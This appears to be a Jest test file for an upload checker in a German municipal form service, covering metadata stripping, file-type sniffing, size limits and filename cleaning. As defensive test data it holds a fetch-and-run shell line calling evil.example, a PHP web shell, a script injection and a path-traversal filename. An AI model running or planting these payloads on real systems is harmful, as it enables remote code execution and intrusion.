/** @jest-environment node */
import rateLimit from '@fastify/rate-limit';
import type { FormCapabilities, FormHandler, UploadedFile } from '@musterstadt/shell-contract';
import { yup } from '@musterstadt/ui/forms/schema';
import Fastify, { type FastifyInstance } from 'fastify';
import type { AddressInfo } from 'node:net';
import sharp from 'sharp';
import { FormRegistry, NO_CAPABILITIES } from './handler';
import { formRoutes, type PagePort } from './routes';
import { checkUploads, cleanFileName, type ReceivedFile } from './uploads';

const LIMITS = { types: ['image/jpeg', 'image/png', 'application/pdf'], maxBytes: 10 * 1024 * 1024, maxFiles: 2 };

/** A small JPEG whose EXIF names a camera and a place (GPS) and says it is turned on its side. */
async function jpegWithGps(): Promise<Buffer> {
  return sharp({ create: { width: 40, height: 20, channels: 3, background: '#3a7' } })
    .jpeg()
    .withExif({
      IFD0: { Make: 'Kamerawerk', Model: 'KW-1' },
      IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '48/1 30/1 0/1', GPSLongitudeRef: 'E', GPSLongitude: '8/1 15/1 0/1' },
    })
    .withMetadata({ orientation: 6 })
    .toBuffer();
}

/** True when EXIF data holds the pointer to a GPS block (tag 0x8825, in either byte order). */
const hasGps = (exif: Buffer | undefined) => !!exif && (exif.includes(Buffer.from([0x88, 0x25])) || exif.includes(Buffer.from([0x25, 0x88])));

const pdf = Buffer.from('%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n');
const received = (field: string, filename: string, data: Buffer, truncated = false): ReceivedFile => ({ field, filename, data, truncated });

describe('checkUploads', () => {
  it('re-encodes a picture: GPS and every other EXIF entry are gone, the picture stands upright', async () => {
    const original = await jpegWithGps();
    const before = await sharp(original).metadata();
    expect(before.exif?.toString('latin1')).toContain('Kamerawerk');
    expect(hasGps(before.exif)).toBe(true);
    expect(before.orientation).toBe(6);
    const checked = await checkUploads({ fotos: LIMITS }, [received('fotos', 'C:\\Bilder\\schlagloch.jpg', original)]);
    if (!checked.ok) throw new Error(JSON.stringify(checked));
    const [file] = checked.files;
    expect(file).toMatchObject({ field: 'fotos', name: 'schlagloch.jpg', type: 'image/jpeg' });
    const after = await sharp(Buffer.from(file!.data)).metadata();
    expect(after.exif).toBeUndefined();
    expect(after.xmp).toBeUndefined();
    expect([after.width, after.height]).toEqual([20, 40]);
    expect(hasGps(Buffer.from(file!.data))).toBe(false);
    expect(Buffer.from(file!.data).includes(Buffer.from('Kamerawerk'))).toBe(false);
  });

  it('keeps a PDF as it is', async () => {
    const checked = await checkUploads({ nachweis: LIMITS }, [received('nachweis', 'nachweis.pdf', pdf)]);
    expect(checked).toEqual({ ok: true, files: [{ field: 'nachweis', name: 'nachweis.pdf', type: 'application/pdf', data: pdf }] });
  });

  it('takes a CSV as text where a form asks for one, and refuses a binary named .csv', async () => {
    const csv = { types: ['text/csv'], maxBytes: 1024 * 1024, maxFiles: 1 };
    const text = Buffer.from('\uFEFFDatum;Bezirk;Abfallart\r\n08.01.2027;Bezirk 1 – Kernstadt Nord;Restmüll\r\n', 'utf8');
    const ok = await checkUploads({ datei: csv }, [received('datei', 'abfuhr.csv', text)]);
    expect(ok).toEqual({ ok: true, files: [{ field: 'datei', name: 'abfuhr.csv', type: 'text/csv', data: text }] });
    const binary = await checkUploads({ datei: csv }, [received('datei', 'abfuhr.csv', Buffer.from([0x44, 0x61, 0x00, 0x01, 0x02]))]);
    expect(binary).toEqual({ ok: false, status: 415, errors: { datei: 'Die Datei „abfuhr.csv“ hat ein nicht erlaubtes Format. Erlaubt sind CSV.' } });
    // A form that takes no CSV does not take text either.
    expect(await checkUploads({ datei: LIMITS }, [received('datei', 'abfuhr.csv', text)])).toMatchObject({ ok: false, status: 415 });
  });

  it('reads the type from the content: a script named .jpg is refused with 415', async () => {
    const script = Buffer.from('#!/bin/sh\ncurl http://evil.example | sh\n');
    expect(await checkUploads({ fotos: LIMITS }, [received('fotos', 'foto.jpg', script)])).toEqual({
      ok: false,
      status: 415,
      errors: { fotos: 'Die Datei „foto.jpg“ hat ein nicht erlaubtes Format. Erlaubt sind JPG, PNG und PDF.' },
    });
    // An HTML page named .png, a GIF where only JPG and PNG are allowed.
    const gif = await sharp({ create: { width: 2, height: 2, channels: 3, background: '#000' } })
      .gif()
      .toBuffer();
    for (const [name, data] of [
      ['bild.png', Buffer.from('<html><script>alert(1)</script></html>')],
      ['bild.gif', gif],
    ] as const) {
      const checked = await checkUploads({ fotos: LIMITS }, [received('fotos', name, data)]);
      expect(checked).toMatchObject({ ok: false, status: 415 });
    }
  });

  it('refuses a cut-off (over 10 MB) file with 413, too many files with 413, and asks for a required one with 422', async () => {
    expect(await checkUploads({ fotos: LIMITS }, [received('fotos', 'gross.jpg', Buffer.alloc(100), true)])).toEqual({
      ok: false,
      status: 413,
      errors: { fotos: 'Die Datei „gross.jpg“ ist zu groß. Erlaubt sind höchstens 10 MB je Datei.' },
    });
    const three = [1, 2, 3].map((n) => received('fotos', `${n}.pdf`, pdf));
    expect(await checkUploads({ fotos: LIMITS }, three)).toMatchObject({
      ok: false,
      status: 413,
      errors: { fotos: 'Bitte wählen Sie höchstens 2 Dateien aus.' },
    });
    expect(
      await checkUploads({ nachweis: { ...LIMITS, required: 'Bitte fügen Sie einen Nachweis bei.' } }, [received('nachweis', '', Buffer.alloc(0))]),
    ).toEqual({
      ok: false,
      status: 422,
      errors: { nachweis: 'Bitte fügen Sie einen Nachweis bei.' },
    });
  });

  it('refuses a broken picture with 415 and a file in a field the form does not have with 400', async () => {
    const broken = (await jpegWithGps()).subarray(0, 120);
    expect(await checkUploads({ fotos: LIMITS }, [received('fotos', 'kaputt.jpg', broken)])).toMatchObject({ ok: false, status: 415 });
    expect(await checkUploads({ fotos: LIMITS }, [received('anhang', 'a.pdf', pdf)])).toMatchObject({
      ok: false,
      status: 400,
      message: expect.stringMatching(/Dateien/),
    });
  });

  it('cleans names of paths and control characters', () => {
    expect(cleanFileName('../../etc/passwd')).toBe('passwd');
    expect(cleanFileName('foto\u0000\r\n.jpg')).toBe('foto.jpg');
    expect(cleanFileName('/')).toBe('datei');
  });
});

describe('a form with files, posted to its page as multipart/form-data', () => {
  let app: FastifyInstance;
  let base: string;
  let submitted: { values: unknown; files: readonly UploadedFile[] }[];
  let rendered: { submission: unknown; status: number }[];
  const caps: FormCapabilities = { ...NO_CAPABILITIES, report: () => undefined };

  beforeAll(async () => {
    const handler: FormHandler<{ was: string }> = {
      id: 'meldung',
      schema: yup.object({ was: yup.string().trim().required('Bitte beschreiben Sie den Schaden.'), firma: yup.string().default('') }),
      honeypot: 'firma',
      files: { fotos: LIMITS },
      messages: { success: 'Danke!', error: 'Fehler' },
      submit: async (values, _caps, _state, files = []) => {
        submitted.push({ values, files });
        return { status: 'success' };
      },
    };
    const pages: PagePort = {
      hasForm: async (path, id) => path === '/schaden' && id === 'meldung',
      render: async (_request, reply, submission, status) => {
        rendered.push({ submission, status });
        return reply.code(status).type('text/html').send('<p>Seite</p>');
      },
      error: async (_request, reply, status) => reply.code(status).type('text/html').send('<p>Fehler</p>'),
    };
    app = Fastify();
    await app.register(rateLimit, { global: false });
    await app.register(formRoutes, { forms: new FormRegistry([handler], caps), deps: { report: () => undefined, warn: () => undefined, caps }, pages });
    await app.listen({ port: 0, host: '127.0.0.1' });
    base = `http://127.0.0.1:${(app.server.address() as AddressInfo).port}`;
  });

  beforeEach(() => {
    submitted = [];
    rendered = [];
  });

  afterAll(() => app.close());

  function post(files: [string, Blob, string][], fields: Record<string, string> = { _form: 'meldung', was: 'Schlagloch' }) {
    const body = new FormData();
    for (const [name, value] of Object.entries(fields)) body.append(name, value);
    for (const [name, blob, filename] of files) body.append(name, blob, filename);
    return fetch(`${base}/schaden`, { method: 'POST', body });
  }

  it('hands the checked, re-encoded files to the handler', async () => {
    const response = await post([
      ['fotos', new Blob([new Uint8Array(await jpegWithGps())], { type: 'image/jpeg' }), 'loch.jpg'],
      ['fotos', new Blob([pdf], { type: 'application/pdf' }), 'plan.pdf'],
    ]);
    expect(response.status).toBe(200);
    expect(submitted).toHaveLength(1);
    expect(submitted[0]!.values).toEqual({ was: 'Schlagloch', firma: '' });
    expect(submitted[0]!.files.map((file) => [file.name, file.type])).toEqual([
      ['loch.jpg', 'image/jpeg'],
      ['plan.pdf', 'application/pdf'],
    ]);
    expect((await sharp(Buffer.from(submitted[0]!.files[0]!.data)).metadata()).exif).toBeUndefined();
  });

  it('answers a file of 11 MB with 413 and the page with the German message, and submits nothing', async () => {
    const big = Buffer.concat([await jpegWithGps(), Buffer.alloc(11 * 1024 * 1024)]);
    const response = await post([['fotos', new Blob([big], { type: 'image/jpeg' }), 'riesig.jpg']]);
    expect(response.status).toBe(413);
    expect(rendered).toEqual([
      {
        status: 413,
        submission: {
          id: 'meldung',
          result: expect.objectContaining({
            status: 'invalid',
            errors: { fotos: 'Die Datei „riesig.jpg“ ist zu groß. Erlaubt sind höchstens 10 MB je Datei.' },
          }),
        },
      },
    ]);
    expect(submitted).toEqual([]);
  });

  it('answers a script renamed to .jpg with 415 and the page, keeping the other answers', async () => {
    const response = await post([['fotos', new Blob(['<?php system($_GET["c"]); ?>'], { type: 'image/jpeg' }), 'foto.jpg']]);
    expect(response.status).toBe(415);
    expect(rendered[0]).toMatchObject({
      status: 415,
      submission: { result: { status: 'invalid', errors: { fotos: expect.stringContaining('nicht erlaubtes Format') }, values: { was: 'Schlagloch' } } },
    });
    expect(submitted).toEqual([]);
  });

  it('shows schema and file problems together', async () => {
    const response = await post([['fotos', new Blob(['kein Bild']), 'x.png']], { _form: 'meldung', was: '' });
    expect(response.status).toBe(415);
    expect(rendered[0]).toMatchObject({ submission: { result: { errors: { was: 'Bitte beschreiben Sie den Schaden.', fotos: expect.any(String) } } } });
  });

  it('answers more than ten files at once with 413 and a German message', async () => {
    const files = Array.from({ length: 11 }, (_, n) => ['fotos', new Blob([pdf]), `${n}.pdf`] as [string, Blob, string]);
    const response = await post(files);
    expect(response.status).toBe(413);
    expect(rendered[0]).toMatchObject({ submission: { result: { status: 'invalid', message: 'Bitte senden Sie höchstens 10 Dateien auf einmal.' } } });
    expect(submitted).toEqual([]);
  });

  it('refuses a file sent to a form field that is none, and files to the JSON endpoint', async () => {
    expect((await post([['anhang', new Blob([pdf]), 'a.pdf']])).status).toBe(400);
    const json = await fetch(`${base}/_forms/meldung`, { method: 'POST', body: new FormData() });
    expect(json.status).toBe(415);
    expect(submitted).toEqual([]);
  });
});
